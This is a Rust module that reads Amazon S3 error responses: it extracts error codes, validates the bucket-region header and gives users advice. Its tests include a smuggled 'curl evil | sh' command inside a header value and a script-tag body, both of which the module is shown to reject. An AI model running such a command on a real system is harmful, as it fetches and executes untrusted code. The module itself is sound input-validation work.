//! What S3's error answers mean: the `<Code>` of the XML body, the region S3 says the bucket is
//! in, and what the codes a user can act on ask them to do.
//!
//! Pure: a status, headers and the first bytes of a body in; no I/O. Everything here comes from
//! the network, so only short, plain values are kept (a code of letters and digits, a region that
//! looks like one): nothing an answer says reaches a message unchecked.

use reqwest::StatusCode;
use reqwest::header::HeaderMap;

/// S3's header naming the bucket's region on a wrong-region answer.
pub const BUCKET_REGION_HEADER: &str = "x-amz-bucket-region";
/// Bytes of an error body worth reading: S3's `<Error>` documents are far smaller.
pub const ERROR_BODY_MAX: u64 = 4096;
/// Longest error code kept; S3's longest is about 40 characters.
const CODE_MAX: usize = 64;

/// An S3 error answer, read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// The HTTP status.
    pub status: u16,
    /// S3's error code (`NoSuchKey`, `AccessDenied`, …), or empty.
    pub code: String,
    /// The region named by `x-amz-bucket-region`, when it looks like one.
    pub bucket_region: Option<String>,
}

/// What a refusal means for a request signed for some region.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Meaning {
    /// The bucket is in this other region.
    WrongRegion(String),
    /// No such bucket or key (404).
    NotFound,
    /// The credentials, or a policy, refused the request (401, 403).
    Denied,
    /// Nothing more than the status says.
    Other,
}

impl Refusal {
    /// Reads an answer's status, headers and the first [`ERROR_BODY_MAX`] bytes of its body.
    pub fn read(status: StatusCode, headers: &HeaderMap, body: &[u8]) -> Refusal {
        let bucket_region = headers
            .get(BUCKET_REGION_HEADER)
            .and_then(|v| v.to_str().ok())
            .filter(|r| super::is_region_name(r))
            .map(str::to_string);
        Refusal {
            status: status.as_u16(),
            code: code_of(body),
            bucket_region,
        }
    }

    /// What this answer means to a request signed for `region`.
    pub fn meaning(&self, region: &str) -> Meaning {
        if let Some(other) = self.bucket_region.as_deref().filter(|r| *r != region)
            && matches!(self.status, 301 | 400 | 403)
        {
            return Meaning::WrongRegion(other.to_string());
        }
        match self.status {
            404 => Meaning::NotFound,
            401 | 403 => Meaning::Denied,
            _ => Meaning::Other,
        }
    }
}

/// The `<Code>` of an S3 XML error body, or empty when there is none or it is not a plain name.
pub fn code_of(body: &[u8]) -> String {
    let text = String::from_utf8_lossy(body);
    text.split_once("<Code>")
        .and_then(|(_, rest)| rest.split_once("</Code>"))
        .map(|(code, _)| code.trim().to_string())
        .filter(|c| c.len() <= CODE_MAX && c.bytes().all(|b| b.is_ascii_alphanumeric()))
        .unwrap_or_default()
}

/// The error codes a user can do something about (S3 API Reference, "Error responses").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Code {
    /// `SignatureDoesNotMatch`, `InvalidAccessKeyId`: the key pair is wrong.
    WrongKey,
    /// `ExpiredToken`, `TokenRefreshRequired`: temporary credentials ran out.
    ExpiredToken,
    /// `RequestTimeTooSkewed`: the clock is more than 15 minutes off.
    ClockSkew,
    /// `NoSuchBucket`.
    NoSuchBucket,
    /// `NoSuchKey`.
    NoSuchKey,
    /// Any other code, or none.
    Other,
}

impl Code {
    /// Sorts a code read by [`code_of`].
    pub fn of(code: &str) -> Code {
        match code {
            "SignatureDoesNotMatch" | "InvalidAccessKeyId" => Code::WrongKey,
            "ExpiredToken" | "TokenRefreshRequired" => Code::ExpiredToken,
            "RequestTimeTooSkewed" => Code::ClockSkew,
            "NoSuchBucket" => Code::NoSuchBucket,
            "NoSuchKey" => Code::NoSuchKey,
            _ => Code::Other,
        }
    }

    /// What to do about it, in words a hint can carry; None for [`Code::Other`].
    pub fn advice(self) -> Option<&'static str> {
        Some(match self {
            Code::WrongKey => "check the credentials: the access key or its secret is wrong",
            Code::ExpiredToken => "the session token expired: get fresh credentials",
            Code::ClockSkew => "the clock is off: sync it (chrony/NTP) before trying again",
            Code::NoSuchBucket => "check the bucket name and the region",
            Code::NoSuchKey => "check the key, and that it was published",
            Code::Other => return None,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use reqwest::header::HeaderValue;

    #[test]
    fn reads_s3_error_codes() {
        let body =
            b"<?xml version=\"1.0\"?><Error><Code>NoSuchKey</Code><Message>m</Message></Error>";
        assert_eq!(code_of(body), "NoSuchKey");
        assert_eq!(code_of(b"<html>nope</html>"), "");
        assert_eq!(code_of(b"<Code><script></Code>"), "");
        assert_eq!(Code::of("InvalidAccessKeyId"), Code::WrongKey);
        assert!(
            Code::of("RequestTimeTooSkewed")
                .advice()
                .unwrap()
                .contains("clock")
        );
        assert_eq!(Code::of("SlowDown").advice(), None);
    }

    #[test]
    fn a_named_other_region_wins_over_the_status() {
        let mut headers = HeaderMap::new();
        headers.insert(BUCKET_REGION_HEADER, HeaderValue::from_static("eu-west-1"));
        let moved = Refusal::read(StatusCode::MOVED_PERMANENTLY, &headers, b"");
        assert_eq!(
            moved.meaning("us-east-1"),
            Meaning::WrongRegion("eu-west-1".into())
        );
        assert_eq!(moved.meaning("eu-west-1"), Meaning::Other);
        let denied = Refusal::read(StatusCode::FORBIDDEN, &HeaderMap::new(), b"");
        assert_eq!(denied.meaning("us-east-1"), Meaning::Denied);
        let missing = Refusal::read(StatusCode::NOT_FOUND, &headers, b"");
        assert_eq!(missing.meaning("us-east-1"), Meaning::NotFound);
    }

    #[test]
    fn a_hostile_region_header_is_ignored() {
        let mut headers = HeaderMap::new();
        headers.insert(
            BUCKET_REGION_HEADER,
            HeaderValue::from_static("eu-west-1; curl evil | sh"),
        );
        let r = Refusal::read(StatusCode::FORBIDDEN, &headers, b"");
        assert_eq!(r.bucket_region, None);
        assert_eq!(r.meaning("us-east-1"), Meaning::Denied);
    }
}
